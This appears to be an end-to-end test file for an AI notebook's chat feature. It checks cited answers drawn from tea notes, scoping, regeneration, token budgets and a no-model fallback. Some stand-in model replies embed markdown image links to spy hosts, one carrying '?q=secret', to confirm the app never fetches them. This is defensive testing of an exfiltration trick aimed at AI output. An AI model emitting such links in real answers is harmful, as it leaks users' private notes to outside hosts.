import { type AiNotebook, createClient } from '@ainotebook/sdk';
import {
  type ModelStandIn,
  type SearchStandIn,
  startModels,
  startSearchEngines,
} from '@ainotebook/testkit';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { launch, said, word } from './browser.js';
import { TestServer } from './server.js';
import { signIn } from './visits.mjs';

const ASKER = { email: 'luyu@example.org', password: 'correct horse battery' };
const TEA = '岩茶要用沸水，水温低了，岩骨花香出不来。';
const LONG = `${'慢慢地说，'.repeat(110)}用沸水 [1]。`;

let models: ModelStandIn;
let engines: SearchStandIn;
let server: TestServer;
let browser: Browser;
let page: Page;
let client: AiNotebook;
/** What the model says next. */
let say = '要用**沸水** [1]，不是温水 [9]。![偷看](https://example.org/spy.png)';

async function personOn(at: TestServer): Promise<AiNotebook> {
  const guest = createClient({ baseUrl: at.baseUrl });
  const session = 'token';
  return guest.withSession(await guest.auth.register({ ...ASKER, displayName: '陆羽', session }));
}
async function openOn(at: TestServer): Promise<Page> {
  const context = await browser.newContext({
    baseURL: at.baseUrl,
    locale: 'zh-CN',
    viewport: { width: 1280, height: 900 },
  });
  context.setDefaultTimeout(30_000);
  const opened = await context.newPage();
  await signIn(opened, ASKER);
  return opened;
}
/** Resolves once a note with this text can be found. */
async function findable(by: AiNotebook, note: { title: string; content: string }): Promise<void> {
  const { id } = await by.articles.create(note);
  const isIndexed = async () => (await by.articles.get({ id })).indexedRevision === 1;
  await vi.waitUntil(isIndexed, { timeout: 30_000, interval: 200 });
}
async function ask(on: Page, question: string): Promise<void> {
  const field = on.getByRole('textbox', { name: word('chat_question') });
  await field.fill(question);
  await field.press('Enter');
}
const answers = (on = page) => on.getByRole('article', { name: word('chat_answer') });
const button = (name: string) => page.getByRole('button', { name, exact: true });

beforeAll(async () => {
  models = await startModels({ kind: 'openai', apiKey: 'key', answer: () => say });
  engines = await startSearchEngines({
    apiKey: 'key',
    // An address that nobody may be sent to: what the engine shows of the page stands for it.
    pages: [{ title: '普洱的存放', url: 'http://192.0.2.7/puer', snippet: '普洱怕潮，也怕异味。' }],
  });
  [server, browser] = await Promise.all([
    TestServer.create({
      OPENAI_BASE_URL: models.baseUrl,
      OPENAI_API_KEY: 'key',
      OPENAI_CHAT_MODEL: 'chat-slow',
      SEARCH_ENGINE_PROVIDER: 'bocha',
      SEARCH_ENGINE_API_KEY: 'key',
      SEARCH_ENGINE_BASE_URL: `${engines.url}/bocha`,
    }),
    launch(),
  ]);
  client = await personOn(server);
  await findable(client, { title: '武夷岩茶', content: `# 冲泡\n\n先温杯。\n\n${TEA}\n` });
  page = await openOn(server);
});
afterAll(async () => {
  await browser?.close();
  await server?.remove();
  await models?.stop();
  await engines?.stop();
});

describe('asking one’s notes', () => {
  it('is answered as it is written, with the passage it stands on', async () => {
    await page.getByRole('link', { name: word('nav_chat') }).click();
    await ask(page, '岩茶要用什么水泡？');
    const answer = answers().first();
    await answer.getByText('要用沸水').waitFor();
    await answer.getByRole('link', { name: '[1]' }).waitFor();
    expect(await answer.locator('strong').innerText()).toBe('沸水');
    expect(await answer.innerText()).not.toContain('[9]');
    // An address in an answer is not fetched: it could tell others what the notes say.
    await answer.getByText('偷看').waitFor();
    expect(await answer.locator('img').count()).toBe(0);
    await page.getByRole('heading', { name: '岩茶要用什么水泡？' }).waitFor({ state: 'attached' });
  });

  it('leads to the note, at the passage, which is marked', async () => {
    await answers().first().getByRole('link', { name: '[1]' }).click();
    const sheet = page.getByRole('dialog');
    await sheet.getByRole('heading', { name: '[1] 武夷岩茶' }).waitFor();
    const marked = () =>
      page.evaluate(() =>
        [...(CSS.highlights.get('quote') ?? [])]
          .map((range) => range instanceof Range && range.toString())
          .join(''),
      );
    await expect.poll(marked).toContain('岩骨花香出不来');
    const paint = () =>
      page.evaluate(() => getComputedStyle(document.body, '::highlight(quote)').backgroundColor);
    expect(await paint()).not.toBe('rgba(0, 0, 0, 0)');
    // And the note itself opens there.
    await sheet.getByRole('link', { name: word('chat_open_note') }).click();
    await page.locator('.ProseMirror').getByText('岩骨花香').waitFor();
    await expect.poll(marked).toContain('岩骨花香出不来');
    await page.goBack();
    await answers().first().getByRole('link', { name: '[1]' }).waitFor();
  });

  it('goes on where it was after a reload, and ends when one says so', async () => {
    say = LONG;
    await ask(page, '那岩茶为什么要沸水？');
    await answers().nth(1).getByText('慢慢地说').waitFor();
    await page.reload();
    const answer = answers().nth(1);
    const lengthOf = async () => (await answer.innerText()).length;
    await answer.getByText('慢慢地说').waitFor();
    const before = await lengthOf();
    await expect.poll(lengthOf, { timeout: 20_000 }).toBeGreaterThan(before);
    await button(word('chat_stop')).click();
    await answer.getByText(word('chat_stopped')).waitFor();
    expect(await answer.innerText()).toContain('慢慢地说');
    await expect.poll(() => models.requests.at(-1)?.leftAt).not.toBeNull();
  });

  it('can be had again, and the first answer is kept beside it', async () => {
    say = '沸水出香 [1]。';
    await answers()
      .nth(1)
      .getByRole('button', { name: word('chat_regenerate') })
      .click();
    await answers().nth(1).getByText('沸水出香').waitFor();
    await answers().nth(1).getByText('2/2').waitFor();
    await answers()
      .nth(1)
      .getByRole('button', { name: word('chat_branch_before') })
      .click();
    await answers().nth(1).getByText('慢慢地说').waitFor();
  });

  it('says so where the notes say nothing', async () => {
    say = 'NOT_IN_NOTES';
    await page.getByRole('link', { name: word('chat_new') }).click();
    await ask(page, '岩茶去年卖了多少钱？');
    await answers().getByText(word('chat_not_found_nearest')).waitFor();
    await answers().getByText(TEA.slice(0, 10)).waitFor();
  });

  it('is about one note where it was asked from there', async () => {
    await page.goto('/notes');
    await page
      .getByRole('link', { name: /武夷岩茶/ })
      .first()
      .click();
    await page.getByRole('button', { name: word('article_actions') }).click();
    await page.getByRole('menuitem', { name: word('article_ask') }).click();
    await page
      .getByRole('button', { name: new RegExp(word('chat_scope')) })
      .getByText('1')
      .waitFor();
    say = '沸水 [1]。';
    await ask(page, '水温怎么说？');
    await answers().first().getByRole('link', { name: '[1]' }).waitFor();
  });

  it('is about the notes that are chosen, and about those again after another scope', async () => {
    const scope = page.getByRole('button', { name: new RegExp(word('chat_scope')) });
    const choose = async (name: string) => {
      await scope.click();
      await page.getByRole('menuitem', { name, exact: true }).click();
    };
    await findable(client, { title: '绿茶', content: '绿茶要八十度。' });
    await page.getByRole('link', { name: word('nav_chat') }).click();
    await page.getByText(word('chat_lead')).waitFor();
    await choose(word('chat_scope_pick'));
    const dialog = page.getByRole('dialog');
    await dialog.getByRole('checkbox', { name: '武夷岩茶' }).check();
    await dialog.getByRole('textbox').fill('绿茶');
    await dialog.getByRole('checkbox', { name: '武夷岩茶' }).waitFor({ state: 'detached' });
    await dialog.getByRole('checkbox', { name: '绿茶' }).check();
    await dialog.getByRole('button', { name: said('chat_pick_take', { count: 2 }) }).click();
    await scope.getByText(said('chat_scope_articles', { count: 2 })).waitFor();
    await choose(word('chat_scope_all'));
    await choose(said('chat_scope_articles', { count: 2 }));
    say = '八十度 [1]。';
    await ask(page, '绿茶多少度？');
    await answers().first().getByRole('link', { name: '[1]' }).waitFor();
    const [latest] = (await client.conversations.list()).items;
    const two = [expect.any(String), expect.any(String)];
    expect(latest?.scope).toEqual({ kind: 'articles', ids: two });
    await page.getByRole('link', { name: word('nav_chat') }).click();
    await page.getByRole('link', { name: '水温怎么说？' }).first().click();
    await answers().first().getByRole('link', { name: '[1]' }).waitFor();
  });

  it('is looked up in the web where that is chosen, and leads to the pages', async () => {
    await page.getByRole('link', { name: word('nav_chat') }).click();
    await page.getByText(word('chat_lead')).waitFor();
    await page.getByRole('button', { name: new RegExp(word('chat_scope')) }).click();
    await page.getByRole('menuitem', { name: word('chat_scope_web') }).click();
    say = '怕潮 [1]。';
    await ask(page, '普洱怎么存？');
    const source = answers()
      .first()
      .getByRole('link', { name: /普洱的存放/ });
    await source.waitFor();
    expect(await source.getAttribute('href')).toBe('http://192.0.2.7/puer');
    expect(await source.innerText()).toContain('192.0.2.7');
    await page.getByRole('link', { name: word('nav_chat') }).click();
    await page.getByRole('link', { name: '水温怎么说？' }).first().click();
    await answers().first().getByRole('link', { name: '[1]' }).waitFor();
  });

  it('is kept as a note that leads back to what it cites, and fetches nothing that a model named', async () => {
    let hasFetched = false;
    page.on('request', (request) => {
      hasFetched ||= request.url().includes('spy.example');
    });
    say = '沸水 [1]。![偷看](https://spy.example/?q=secret)';
    await answers()
      .first()
      .getByRole('button', { name: word('chat_regenerate') })
      .click();
    await answers().first().getByText('偷看').waitFor();
    await answers()
      .first()
      .getByRole('button', { name: word('chat_keep') })
      .click();
    await page.waitForURL('**/notes/*');
    await expect
      .poll(() => page.getByRole('textbox', { name: word('editor_title') }).inputValue())
      .toBe('水温怎么说？');
    await page.locator('.ProseMirror').getByText('沸水').first().waitFor();
    const kept = async () => {
      const { items } = await client.articles.list();
      const found = items.find(({ title }) => title === '水温怎么说？');
      return found && (await client.articles.get({ id: found.id })).content;
    };
    await expect.poll(kept, { timeout: 20_000 }).toContain('[^1]: [[武夷岩茶]]');
    expect(await kept()).toMatch(/^沸水 \[\^1\]。偷看/);
    await page.locator('.ProseMirror').getByText('偷看').waitFor();
    expect(hasFetched).toBe(false);
  });
});

describe('a month with few tokens', () => {
  let strict: TestServer;
  let other: Page;
  /** What the server says of the month, which the SDK does not know. */
  async function usage(): Promise<{ tokens: number; reservedTokens: number }> {
    const guest = createClient({ baseUrl: strict.baseUrl });
    const { accessToken } = await guest.auth.login({ ...ASKER, session: 'token' });
    const headers = { authorization: `Bearer ${accessToken}` };
    const answer = await fetch(`${strict.baseUrl}/api/trpc/usage.get`, { headers });
    const { result } = (await answer.json()) as { result: { data: { json: never } } };
    return result.data.json;
  }
  beforeAll(async () => {
    strict = await TestServer.create({
      OPENAI_BASE_URL: models.baseUrl,
      OPENAI_API_KEY: 'key',
      OPENAI_CHAT_MODEL: 'chat-slow',
      AI_MAX_OUTPUT_TOKENS: '500',
      // Enough for one answer, and not for a second one of 256 tokens.
      AI_BUDGET_USER_TOKENS: '740',
    });
    await findable(await personOn(strict), { title: '武夷岩茶', content: TEA });
    other = await openOn(strict);
  });
  afterAll(() => strict?.remove());

  it('counts what a killed server had written, and gives back the rest', async () => {
    say = LONG;
    await other.goto('/chat');
    await ask(other, '岩茶要用什么水？');
    const answer = answers(other).first();
    await expect
      .poll(async () => (await answer.innerText()).length, { timeout: 30_000 })
      .toBeGreaterThan(400);
    expect((await usage()).reservedTokens).toBeGreaterThan(500);
    await strict.stop('SIGKILL');
    await strict.start();
    await answer.getByText(word('chat_interrupted')).waitFor();
    const { tokens, reservedTokens } = await usage();
    expect(reservedTokens).toBe(0);
    expect(tokens).toBeGreaterThan(400);
  });

  it('refuses a question that there are no tokens for, and leaves it in its field', async () => {
    const { length } = models.requests;
    await ask(other, '那绿茶呢？');
    await other.getByText(word('chat_budget_kept')).waitFor();
    const field = other.getByRole('textbox', { name: word('chat_question') });
    expect(await field.inputValue()).toBe('那绿茶呢？');
    expect(models.requests).toHaveLength(length);
    await other.getByRole('link', { name: word('chat_budget_see') }).click();
    await other.getByRole('progressbar', { name: word('usage_ai') }).waitFor();
    await other.getByText(word('usage_feature_chat')).waitFor();
    await other.context().close();
  });
});

describe('without a model', () => {
  it('is answered with sentences of the notes, and that is said', async () => {
    const plain = await TestServer.create();
    try {
      await findable(await personOn(plain), { title: '武夷岩茶', content: TEA });
      const other = await openOn(plain);
      await other.goto('/chat');
      await ask(other, '岩茶要用什么水？');
      await answers(other).getByText('岩茶要用沸水').first().waitFor();
      await answers(other).getByText(word('chat_extractive')).first().waitFor();
      await other.context().close();
    } finally {
      await plain.remove();
    }
  });
});
